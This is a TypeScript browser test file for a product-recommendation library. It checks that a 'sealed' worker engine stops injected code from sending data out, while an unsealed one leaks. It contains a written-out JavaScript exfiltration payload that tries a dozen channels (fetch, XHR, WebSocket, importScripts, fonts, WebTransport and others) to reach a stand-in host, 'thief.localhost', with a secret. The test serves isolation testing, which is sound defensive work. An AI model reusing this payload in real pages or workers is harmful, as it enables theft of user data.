import { expect, test } from '../tools/site.js';
import { MAKERS, PROXIED_BROWSERS } from './journey/proxied-browsers.js';
import { type RecordedRequest, type RecordingProxy, SHOP, startRecordingProxy } from './journey/recording-proxy.js';
import { SHOP_FOLDERS } from './journey/shopper-journey.js';

/** Where stolen data would go. */
const THIEF = 'http://thief.localhost';

/** Code that got into the engine: tries every way out of a worker, and says when it has. */
const ATTACK = `;(async () => {
  const outcomes = {};
  const attempt = async (name, way) => {
    try { await Promise.race([way('${THIEF}/' + name + '?secret'), new Promise((resolve) => setTimeout(resolve, 1500))]); outcomes[name] = 'made'; } catch { outcomes[name] = 'refused'; }
  };
  const settled = (target, end) => new Promise((resolve, reject) => { target.addEventListener(end, resolve); target.addEventListener('error', reject); });
  const plain = { mode: 'no-cors' };
  await attempt('fetch', (url) => fetch(url, plain));
  await attempt('post', (url) => fetch(url, { ...plain, method: 'POST', body: 'secret', keepalive: true }));
  await attempt('own', () => fetch('${SHOP}stolen-own?secret'));
  await attempt('xhr', (url) => { const request = new XMLHttpRequest(); request.open('GET', url); request.send(); return settled(request, 'load'); });
  await attempt('socket', (url) => settled(new WebSocket(url.replace('http', 'ws')), 'open'));
  await attempt('events', (url) => settled(new EventSource(url), 'open'));
  await attempt('script', (url) => importScripts(url));
  await attempt('module', (url) => import(url));
  await attempt('worker', () => settled(new Worker('${SHOP}stolen-worker.js?secret'), 'message'));
  await attempt('nested', (url) => settled(new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(url) + ', { mode: "no-cors" }).then(postMessage, () => { throw 0; })']))), 'message'));
  await attempt('cache', async (url) => (await caches.open('stolen')).add(new Request(url, plain)));
  await attempt('font', (url) => new FontFace('stolen', 'url(' + url + ')').load());
  await attempt('transport', (url) => new WebTransport(url.replace('http', 'https')).ready);
  new BroadcastChannel('attack').postMessage(outcomes);
})();`;

/** Opens a shelf from an entry whose worker's text has the attack, and tells what came of it. */
const attacked = (entry: string, options: object): string => `
  const { createShelf } = await import('/dist/${entry}.js');
  const attack = new Promise((resolve) => { new BroadcastChannel('attack').onmessage = ({ data }) => resolve(data); });
  const Plain = Blob;
  Date.now = () => 1_800_000_000_000;
  globalThis.Blob = function (parts, options) { return new Plain(options?.type === 'text/javascript' ? ['Date.now = () => 1_800_000_600_000;', ...parts, ${JSON.stringify(ATTACK)}] : parts, options); };
  const shelf = await createShelf({ pack: '/pack/pack.json', consent: 'granted', backend: 'wasm', name: 'sealed-engine', ...${JSON.stringify(options)} });
  for (let tries = 0; (await shelf.health()).pack === null && tries < 200; tries++) await new Promise((resolve) => setTimeout(resolve, 50));
  await shelf.track('view_item', { items: [{ item_id: 'tent-001' }] });
  const lists = [];
  for (const list of [shelf.recommend({ count: 8 }), shelf.related('tent-001'), shelf.because(), shelf.trending(), shelf.boughtTogether(['tent-001']), shelf.recommend({ filter: 'price < 300' })])
    lists.push((await list).items.map(({ id, score }) => [id, score]));
  // Ids of events are random.
  lists.push(JSON.stringify(await shelf.explain('tent-003')).replace(/"01k[0-9a-z]{23}"/g, '"id"'));
  const { engine, sealed, pack, backend, notes } = await shelf.health();
  const outcomes = await attack;
  await shelf.profile.erase({ all: true });
  await shelf.close();
  return { engine, sealed, number: pack?.number, backend, lists, outcomes, frames: document.querySelectorAll('iframe').length, notes };`;

/** Ways out that all three engines have. WebSockets go through a tunnel, of which a proxy sees no more than the host. */
const EVERYWHERE = ['fetch', 'post', 'stolen-own', 'xhr', 'events', 'script', 'module', 'stolen-worker', 'nested', 'cache'];

interface Outcome {
  readonly lists: readonly unknown[];
}

const stolen = (proxy: RecordingProxy): string[] =>
  [...proxy.toShop, ...proxy.elsewhere]
    .map(({ url }: RecordedRequest) => url)
    .filter((url) => !MAKERS.test(url) && /thief|stolen/.test(url))
    .map((url) => url.replace(/^.*localhost(?::\d+)?\/?/, ''));

/** Files of the pack that were asked for, and the shop's first page, which the policy is tried with. */
const asked = (proxy: RecordingProxy): string[] =>
  proxy.toShop.map(({ method, url }) => `${method} ${url}`).filter((line) => line.includes('/pack/') || line.endsWith(` ${SHOP}`));

for (const { name, missing, open } of PROXIED_BROWSERS) {
  test.describe(`in ${name}${missing === '' ? '' : ` (skipped: ${missing})`}`, () => {
    test.skip(missing !== '', missing);

    test('code that got into a sealed engine reaches nobody; into another, it does', async ({ launchOptions }) => {
      test.setTimeout(120_000);
      const visit = async (entry: string, options: object): Promise<{ outcome: Outcome; left: string[]; files: string[] }> => {
        const proxy = await startRecordingProxy(SHOP_FOLDERS);
        const browser = await open(proxy.host, launchOptions);
        try {
          await browser.open(`${SHOP}pages/`);
          const outcome = (await browser.run(attacked(entry, options))) as Outcome;
          await proxy.untilQuiet(500);
          return { outcome, left: stolen(proxy), files: asked(proxy) };
        } finally {
          await browser.close();
          await proxy.stop();
        }
      };
      const unsealed = await visit('inline-worker', {});
      const sealed = await visit('index', { sealed: true });
      expect(sealed.outcome).toMatchObject({ engine: 'worker', backend: 'wasm', sealed: { state: 'sealed', reason: null }, frames: 0 });
      expect(sealed.left).toEqual([]);
      expect(sealed.outcome.lists).toEqual(unsealed.outcome.lists);
      expect(sealed.files).toEqual(unsealed.files);
      // Whatever the browser has of them.
      for (const way of EVERYWHERE) expect(unsealed.left.join(' ')).toContain(way);
    });
  });
}
